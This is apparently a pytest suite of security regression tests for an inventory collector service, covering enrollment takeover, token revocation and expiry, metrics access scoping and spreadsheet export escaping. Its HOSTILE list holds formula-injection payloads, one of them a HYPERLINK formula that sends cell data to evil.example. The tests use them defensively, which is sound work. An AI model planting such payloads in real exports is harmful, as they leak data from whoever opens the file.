"""The holes of the security review, each attack tried against a running collector
(`inventar-collector serve` subprocesses, SQLite and PostgreSQL), and the legitimate paths
beside them. Replay outside a bundle: tests/agent/test_bundle_confinement.py; trust on first
use: tests/integration/test_ssh.py."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
import os
import subprocess
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.collector.helpers import BACKENDS, database_url, make_report
from tests.collector_cli import run_cli
from tests.integration.test_collector_e2e import AGENT, COLLECTOR, free_port, http, run

# The findings evaluator of the collectors under test waits this long after a report
# (INVENTAR_FINDINGS_SETTLE_SECONDS; 10 s by default) before it evaluates.
SETTLE_SECONDS = "1"


@dataclass
class Collector:
    url: str
    db_url: str
    proc: subprocess.Popen[bytes]
    log: Path

    def cli(self, *argv: str, ok: bool = True) -> subprocess.CompletedProcess[str]:
        done = run_cli(list(argv), self.db_url)
        if ok:
            assert done.returncode == 0, done.stderr
        return done

    def cli_process(self, *argv: str) -> subprocess.CompletedProcess[str]:
        """The same command as a process of the console script."""
        return run(COLLECTOR, *argv, env={**os.environ, "INVENTAR_DATABASE_URL": self.db_url})

    def last_line(self, *argv: str) -> str:
        return self.cli(*argv).stdout.strip().splitlines()[-1]

    def stop(self) -> None:
        self.proc.terminate()
        self.proc.wait(10)


def serve(db_url: str, tmp: Path, env: dict[str, str] | None = None) -> Collector:
    port = free_port()
    log = tmp / f"collector-{port}.log"
    proc = subprocess.Popen(
        [COLLECTOR, "serve", "--port", str(port), "--database-url", db_url,
         "--log-level", "warning", "--decode-workers", "0"],
        stdout=log.open("wb"), stderr=subprocess.STDOUT, cwd=tmp,
        env={**os.environ, "INVENTAR_FINDINGS_SETTLE_SECONDS": SETTLE_SECONDS, **(env or {})},
    )  # fmt: skip
    collector = Collector(f"http://127.0.0.1:{port}", db_url, proc, log)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise RuntimeError(log.read_text())
        try:
            if http("GET", f"{collector.url}/readyz")[0] == 200:
                return collector
        except OSError:
            time.sleep(0.1)
    proc.kill()
    raise RuntimeError("collector did not become ready")


@pytest.fixture(params=BACKENDS)
def collector(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Collector]:
    with database_url(request.param, tmp_path) as url:
        if request.param != "sqlite":
            assert run_cli(["db", "upgrade", "--database-url", url], url).returncode == 0
        server = serve(url, tmp_path)
        try:
            yield server
        finally:
            server.stop()


@pytest.fixture
def sqlite_collector(tmp_path: Path) -> Iterator[Collector]:
    server = serve(f"sqlite:///{tmp_path / 'inventar.db'}", tmp_path)
    try:
        yield server
    finally:
        server.stop()


def enroll(c: Collector, secret: str, machine_id: str) -> tuple[int, Any]:
    return http("POST", f"{c.url}/api/v1/enroll", None,
                {"secret": secret, "machine_id": machine_id, "hostname": "h"})  # fmt: skip


def report(c: Collector, token: str, machine_id: str, **host: Any) -> tuple[int, Any]:
    body = make_report(machine_id, host.pop("hostname", "pc"))
    body["host"].update(host)
    return http("POST", f"{c.url}/api/v1/reports", token, body)


def wait_for_findings(c: Collector, host_id: int, viewer: str, check: str) -> dict[str, Any]:
    """The host's current findings once ``check`` has been evaluated (the evaluator settles
    SETTLE_SECONDS after a report)."""
    deadline = time.monotonic() + 40
    while time.monotonic() < deadline:
        status, body = http("GET", f"{c.url}/api/v1/hosts/{host_id}/findings", viewer)
        assert status == 200, body
        found = {f["check"]: f for f in body["items"]}
        if check in found:
            return found
        time.sleep(0.5)
    raise AssertionError(f"{check} not evaluated on host {host_id}")


def host_view(c: Collector, host_id: int, viewer: str) -> dict[str, Any]:
    status, body = http("GET", f"{c.url}/api/v1/hosts/{host_id}", viewer)
    assert status == 200, body
    return dict(body)


# --- 1. enrollment cannot take over a host ---------------------------------------------------


def test_a_secret_cannot_take_over_a_host_of_another_site(collector: Collector) -> None:
    c = collector
    c.cli("sites", "add", "GS Nord", "--kind", "school")
    c.cli("sites", "add", "Kita Sonnenschein", "--kind", "kindergarten")
    school = c.last_line("enroll-secret", "create", "--site", "GS Nord")
    kita = c.last_line("enroll-secret", "create", "--site", "Kita Sonnenschein")
    viewer = c.last_line("token", "create", "--role", "viewer")

    status, victim = enroll(c, school, "victim-machine")
    assert status == 200
    status, stored = report(c, victim["token"], "victim-machine", hostname="lehrer-pc",
                            serial="SER-VICTIM")  # fmt: skip
    assert status == 201
    host_id = stored["host_id"]
    before = wait_for_findings(c, host_id, viewer, "sec.os.supported")
    view = host_view(c, host_id, viewer)
    assert view["site"] == "GS Nord" and view["hostname"] == "lehrer-pc"

    # The attack: the victim's machine id (viewers see it) with another site's secret, and
    # with the victim's own school's secret (it is on every PC of that school).
    for secret in (kita, school):
        status, answer = enroll(c, secret, "victim-machine")
        assert status == 409, answer
        assert "enrolled already" in answer["detail"]
        assert victim["agent_id"] in answer["detail"] and "--replace-agents" in answer["detail"]
    agents = c.cli("agents", "list").stdout.splitlines()[1:]
    assert [line.split("\t")[0] for line in agents] == [victim["agent_id"]]

    # Nothing changed: site, hostname, findings; the victim's agent still reports.
    after_view = host_view(c, host_id, viewer)
    assert (after_view["site"], after_view["hostname"]) == ("GS Nord", "lehrer-pc")
    status, _ = report(c, victim["token"], "victim-machine", hostname="lehrer-pc",
                       serial="SER-VICTIM")  # fmt: skip
    assert status == 201
    after = wait_for_findings(c, host_id, viewer, "sec.os.supported")
    assert {k: v["status"] for k, v in after.items()} == {k: v["status"] for k, v in before.items()}


def test_revoked_agent_then_enrolling_again_and_a_host_never_changes_site(
    sqlite_collector: Collector,
) -> None:
    c = sqlite_collector
    c.cli("sites", "add", "GS Nord", "--kind", "school")
    c.cli("sites", "add", "Rathaus", "--kind", "town-hall")
    school = c.last_line("enroll-secret", "create", "--site", "GS Nord")
    town = c.last_line("enroll-secret", "create", "--site", "Rathaus")
    viewer = c.last_line("token", "create", "--role", "viewer")
    _, first = enroll(c, school, "pc-1")
    _, stored = report(c, first["token"], "pc-1", hostname="pc-1")

    # The admin revokes the agent (machine re-imaged): the machine enrolls again with its
    # site's plain secret; with another site's secret it is refused (the host is known
    # there: moving it is the admin's action).
    c.cli("agents", "revoke", first["agent_id"])
    status, answer = enroll(c, town, "pc-1")
    assert status == 409 and "another site" in answer["detail"]
    assert "hosts move" in answer["detail"]
    status, second = enroll(c, school, "pc-1")
    assert status == 200
    assert report(c, first["token"], "pc-1")[0] == 401
    assert report(c, second["token"], "pc-1", hostname="pc-1")[0] == 201
    assert host_view(c, stored["host_id"], viewer)["site"] == "GS Nord"

    # Moving is an admin action; the agent follows the host and keeps reporting.
    done = c.cli("hosts", "move", str(stored["host_id"]), "--site", "Rathaus")
    assert "moved from GS Nord to Rathaus" in done.stdout
    assert report(c, second["token"], "pc-1", hostname="pc-1")[0] == 201
    assert host_view(c, stored["host_id"], viewer)["site"] == "Rathaus"


def test_re_imaging_with_a_replace_agents_secret(sqlite_collector: Collector) -> None:
    c = sqlite_collector
    c.cli("sites", "add", "GS Nord", "--kind", "school")
    c.cli("sites", "add", "GS Süd", "--kind", "school")
    school = c.last_line("enroll-secret", "create", "--site", "GS Nord")
    refused = c.cli_process("enroll-secret", "create", "--site", "GS Nord", "--replace-agents")
    assert refused.returncode == 1 and "needs --expires" in refused.stderr
    refused = c.cli("enroll-secret", "create", "--site", "GS Nord", "--replace-agents",
                    "--expires", "90d", ok=False)  # fmt: skip
    assert refused.returncode == 1 and "30 days at most" in refused.stderr
    reimage = c.last_line("enroll-secret", "create", "--site", "GS Nord", "--replace-agents",
                          "--expires", "2d")  # fmt: skip
    other = c.last_line("enroll-secret", "create", "--site", "GS Süd", "--replace-agents",
                        "--expires", "2d")  # fmt: skip
    _, old = enroll(c, school, "pc-1")
    assert report(c, old["token"], "pc-1")[0] == 201

    # Another site's re-imaging secret replaces nothing of this site.
    status, _answer = enroll(c, other, "pc-1")
    assert status == 409
    status, new = enroll(c, reimage, "pc-1")
    assert status == 200, new
    assert report(c, old["token"], "pc-1")[0] == 401
    assert report(c, new["token"], "pc-1")[0] == 201
    lines = {line.split("\t")[0]: line for line in c.cli("agents", "list").stdout.splitlines()}
    assert f"replaced by {new['agent_id']}" in lines[old["agent_id"]]
    assert "\tactive\t" in lines[new["agent_id"]]
    log = c.log.read_text()
    assert f"agent {old['agent_id']} of machine pc-1" in log
    assert f"replaced by agent {new['agent_id']}" in log


def test_one_secret_enrolls_only_as_many_machines_as_allowed(sqlite_collector: Collector) -> None:
    c = sqlite_collector
    c.cli("sites", "add", "Kita", "--kind", "kindergarten")
    secret = c.last_line("enroll-secret", "create", "--site", "Kita", "--max-uses", "2",
                         "--name", "Kita PCs")  # fmt: skip
    assert enroll(c, secret, "m-1")[0] == 200
    assert enroll(c, secret, "m-2")[0] == 200
    status, answer = enroll(c, secret, "invented-3")
    assert status == 401 and "used 2 times" in answer["detail"]
    listing = c.cli("enroll-secret", "list").stdout.splitlines()
    row = next(line.split("\t") for line in listing[1:] if "Kita PCs" in line)
    assert row[3:5] == ["used up", "2/2"]
    assert row[5] != "-"  # last use shown


def test_a_changed_hardware_identity_is_stored_and_flagged(sqlite_collector: Collector) -> None:
    c = sqlite_collector
    c.cli("sites", "add", "Rathaus", "--kind", "town-hall")
    secret = c.last_line("enroll-secret", "create", "--site", "Rathaus")
    viewer = c.last_line("token", "create", "--role", "viewer")
    _, agent = enroll(c, secret, "cloned")
    _, stored = report(c, agent["token"], "cloned", serial="SER-ORIGINAL")
    host_id = stored["host_id"]
    found = wait_for_findings(c, host_id, viewer, "sec.agent.identity-changed")
    assert found["sec.agent.identity-changed"]["status"] == "pass"

    status, _ = report(c, agent["token"], "cloned", serial="SER-CLONE")  # a cloned image
    assert status == 201  # stored, but flagged
    deadline = time.monotonic() + 40
    while True:
        found = wait_for_findings(c, host_id, viewer, "sec.agent.identity-changed")
        if found["sec.agent.identity-changed"]["status"] == "fail" or time.monotonic() > deadline:
            break
        time.sleep(0.5)
    finding = found["sec.agent.identity-changed"]
    assert finding["status"] == "fail" and finding["severity"] == "high"
    assert "serial SER-ORIGINAL -> SER-CLONE" in finding["message"]
    assert host_view(c, host_id, viewer)["serial"] == "SER-CLONE"
    c.cli("hosts", "identity-ok", str(host_id))


# --- 2. credentials that can be revoked and expire ------------------------------------------


def test_revoked_and_expired_tokens_and_secrets_get_401_at_once(
    sqlite_collector: Collector,
) -> None:
    c = sqlite_collector
    c.cli("sites", "add", "Rathaus", "--kind", "town-hall")
    admin = c.last_line("token", "create", "--role", "admin", "--name", "leaked")
    assert http("GET", f"{c.url}/api/v1/hosts", admin)[0] == 200
    token_id = next(
        line.split("\t")[0]
        for line in c.cli("token", "list").stdout.splitlines()
        if "\tleaked\t" in line
    )
    listing = c.cli("token", "list").stdout
    assert "\tactive\t" in listing and "-\t" in listing  # last use shown (a time, not "-")
    c.cli("token", "revoke", token_id)
    status, body = http("GET", f"{c.url}/api/v1/hosts", admin)
    assert status == 401 and "revoked" in body["detail"]

    # Long enough for two commands (in this process) and a request on a busy CI machine,
    # then waited out.
    expiry = dt.datetime.now(dt.UTC) + dt.timedelta(seconds=3)
    soon = expiry.isoformat()
    short = c.last_line("token", "create", "--role", "viewer", "--expires", soon)
    secret = c.last_line("enroll-secret", "create", "--site", "Rathaus", "--expires", soon)
    assert http("GET", f"{c.url}/api/v1/hosts", short)[0] == 200
    time.sleep(max(0.0, (expiry - dt.datetime.now(dt.UTC)).total_seconds()) + 0.2)
    status, body = http("GET", f"{c.url}/api/v1/hosts", short)
    assert status == 401 and "expired" in body["detail"]
    status, body = enroll(c, secret, "m-late")
    assert status == 401 and "expired" in body["detail"]
    assert "\texpired\t" in c.cli("token", "list").stdout
    assert "\texpired\t" in c.cli("enroll-secret", "list").stdout

    revoked = c.last_line("enroll-secret", "create", "--site", "Rathaus")
    secret_id = c.cli("enroll-secret", "list").stdout.splitlines()[-1].split("\t")[0]
    c.cli("enroll-secret", "revoke", secret_id)
    assert enroll(c, revoked, "m-x")[0] == 401

    # An agent token that the collector has cached is refused at its next report, too.
    agent_secret = c.last_line("enroll-secret", "create", "--site", "Rathaus")
    _, agent = enroll(c, agent_secret, "m-agent")
    assert report(c, agent["token"], "m-agent")[0] == 201
    c.cli("agents", "revoke", agent["agent_id"])
    assert report(c, agent["token"], "m-agent")[0] == 401


def test_the_agent_prints_why_its_machine_cannot_enroll(
    sqlite_collector: Collector, tmp_path: Path
) -> None:
    c = sqlite_collector
    c.cli("sites", "add", "Rathaus", "--kind", "town-hall")
    secret = c.last_line("enroll-secret", "create", "--site", "Rathaus")
    argv = [AGENT, "enroll", "--server", c.url, "--secret", secret, "--allow-http"]
    assert run(*argv, "--state-dir", str(tmp_path / "a")).returncode == 0
    again = run(*argv, "--state-dir", str(tmp_path / "b"))
    assert again.returncode == 1
    assert "409" in again.stderr and "enrolled already" in again.stderr
    assert "agents revoke" in again.stderr
    assert not (tmp_path / "b" / "agent.json").exists()


# --- 3. /metrics closed by default, scoped per organization -----------------------------------


def test_serve_on_a_network_address_without_metrics_auth_does_not_start(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'inventar.db'}"
    port = str(free_port())
    env = {k: v for k, v in os.environ.items() if not k.startswith("INVENTAR_METRICS")}
    done = subprocess.run(
        [COLLECTOR, "serve", "--host", "0.0.0.0", "--port", port, "--database-url", url],
        capture_output=True, text=True, timeout=60, env=env, check=False,
    )  # fmt: skip
    assert done.returncode == 2
    assert "refusing to serve on 0.0.0.0 with /metrics unprotected" in done.stderr
    assert "INVENTAR_METRICS_TOKEN_FILE" in done.stderr
    assert "INVENTAR_METRICS_PUBLIC=true" in done.stderr

    # A token from a file: it starts, and /metrics needs the token.
    token_file = tmp_path / "metrics-token"
    token_file.write_text("0123456789abcdef0123456789abcdef\n")
    proc = subprocess.Popen(
        [COLLECTOR, "serve", "--host", "0.0.0.0", "--port", port, "--database-url", url,
         "--log-level", "warning", "--decode-workers", "0"],
        env={**env, "INVENTAR_METRICS_TOKEN_FILE": str(token_file)},
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        base = f"http://127.0.0.1:{port}"
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            try:
                if http("GET", f"{base}/readyz")[0] == 200:
                    break
            except OSError:
                time.sleep(0.1)
        assert _scrape(base, None)[0] == 401
        status, text = _scrape(base, "Bearer 0123456789abcdef0123456789abcdef")
        assert status == 200 and "inventar_hosts" in text
    finally:
        proc.terminate()
        proc.wait(10)


def _scrape(
    base: str, authorization: str | None, path: str = "/metrics/inventory"
) -> tuple[int, str]:
    import urllib.error
    import urllib.request

    req = urllib.request.Request(f"{base}{path}")
    if authorization:
        req.add_header("Authorization", authorization)
    try:
        with urllib.request.urlopen(req, timeout=10) as resp:
            return resp.status, resp.read().decode()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode()


def test_an_org_scoped_metrics_token_sees_only_its_organization(collector: Collector) -> None:
    c = collector
    c.cli("orgs", "add", "Nachbarstadt")
    c.cli("sites", "add", "GS Nord", "--kind", "school")
    c.cli("sites", "add", "Kita Nachbar", "--kind", "kindergarten", "--org", "Nachbarstadt")
    ours = c.last_line("enroll-secret", "create", "--site", "GS Nord")
    theirs = c.last_line("enroll-secret", "create", "--site", "Kita Nachbar")
    for secret, machine, hostname in ((ours, "m-ours", "pc-ours"),
                                      (theirs, "m-theirs", "pc-theirs")):  # fmt: skip
        _, agent = enroll(c, secret, machine)
        assert report(c, agent["token"], machine, hostname=hostname)[0] == 201
    scoped = c.last_line("token", "create", "--role", "metrics", "--org", "Nachbarstadt")
    fleet = c.last_line("token", "create", "--role", "metrics")
    viewer = c.last_line("token", "create", "--role", "viewer")

    status, text = _scrape(c.url, f"Bearer {scoped}")
    assert status == 200
    assert 'host="pc-theirs"' in text and 'site="Kita Nachbar"' in text
    assert "pc-ours" not in text and "GS Nord" not in text
    assert "inventar_reports_received_total" not in text  # the process is not theirs
    status, own = _scrape(c.url, f"Bearer {scoped}", "/metrics")
    assert status == 200 and "inventar_" not in own
    assert "inventar_agents_enrolled 1.0" in text
    status, text = _scrape(c.url, f"Bearer {fleet}")
    assert status == 200 and "pc-ours" in text and "pc-theirs" in text
    assert "inventar_agents_enrolled 2.0" in text
    # Wrong credentials are refused even where /metrics is open on loopback; a viewer's
    # token is no metrics token.
    assert _scrape(c.url, f"Bearer {viewer}")[0] == 401
    assert _scrape(c.url, "Bearer nonsense")[0] == 401
    basic = base64.b64encode(b"x:y").decode()
    assert _scrape(c.url, f"Basic {basic}")[0] == 401


# --- 4. formulas in exports -------------------------------------------------------------------

HOSTILE = ["=1+1", "+SUM(A1)", "-2+3", "@cmd", '=HYPERLINK("https://evil.example/?d="&A1,"x")']


def test_report_text_is_text_in_budget_exports(sqlite_collector: Collector, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    c = sqlite_collector
    c.cli("sites", "add", "=1+1", "--kind", "school")  # a person's text, too
    secret = c.last_line("enroll-secret", "create", "--site", "=1+1")
    planner = c.last_line("token", "create", "--role", "planner")
    for i, text in enumerate(HOSTILE):
        _, agent = enroll(c, secret, f"m-{i}")
        status, _ = report(c, agent["token"], f"m-{i}", hostname=text, model=text, serial=text,
                           bios_date="2015-01-01")  # fmt: skip
        assert status == 201

    def cells(book: Any) -> list[Any]:
        return [cell for sheet in book for row in sheet.iter_rows() for cell in row]

    # The planner's download through the API: site names as text, formulas only its own.
    xlsx = _get_bytes(f"{c.url}/api/v1/budget?format=xlsx", planner)
    book = load_workbook(io.BytesIO(xlsx))
    site_cells = [cell for cell in cells(book) if cell.value == "=1+1"]
    assert site_cells and all(cell.data_type == "s" for cell in site_cells)
    formulas = [cell.value for cell in cells(book) if cell.data_type == "f"]
    assert formulas and all(f.startswith(("=SUM(", "=F")) for f in formulas)

    text = _get_bytes(f"{c.url}/api/v1/budget?format=csv", planner).decode()
    sites = {row["site"] for row in csv.DictReader(io.StringIO(text))}
    assert sites == {"'=1+1"}

    # The admin's export with the devices (hostnames, models, serials from the reports).
    out = tmp_path / "budget.xlsx"
    c.cli("budget", "--format", "xlsx", "--output", str(out))
    book = load_workbook(out)
    devices = book["Geräte - devices"]
    header = [cell.value for cell in devices[1]]
    rows = [dict(zip(header, row, strict=False)) for row in devices.iter_rows(min_row=2)]
    rows = [r for r in rows if r["hostname"] is not None and r["hostname"].value in HOSTILE]
    assert {r["hostname"].value for r in rows} == set(HOSTILE)
    hosts = [r for r in rows if r["category"].value == "desktop"]
    assert {r["serial"].value for r in hosts} == set(HOSTILE)
    for r in rows:
        for column in ("hostname", "model", "serial", "site"):
            if r[column].value is not None:  # a monitor has no model or serial here
                assert r[column].data_type == "s", (column, r[column].value)
        assert r["unit_price_eur"].data_type == "n"  # numbers stay numbers
    assert all(cell.data_type != "f" for row in devices.iter_rows() for cell in row[:-1])

    done = c.cli("budget", "--format", "csv", "--devices")
    listing = list(csv.DictReader(io.StringIO(done.stdout)))
    assert {r["hostname"] for r in listing} == {"'" + t for t in HOSTILE}
    desktops = [r for r in listing if r["category"] == "desktop"]
    assert {r["model"] for r in desktops} == {"'" + t for t in HOSTILE}
    assert {r["serial"] for r in desktops} == {"'" + t for t in HOSTILE}
    assert {r["year"] for r in listing} <= {str(y) for y in range(2015, 2100)}


def _get_bytes(url: str, token: str) -> bytes:
    import urllib.request

    req = urllib.request.Request(url, headers={"Authorization": f"Bearer {token}"})
    with urllib.request.urlopen(req, timeout=30) as resp:
        body: bytes = resp.read()
        return body
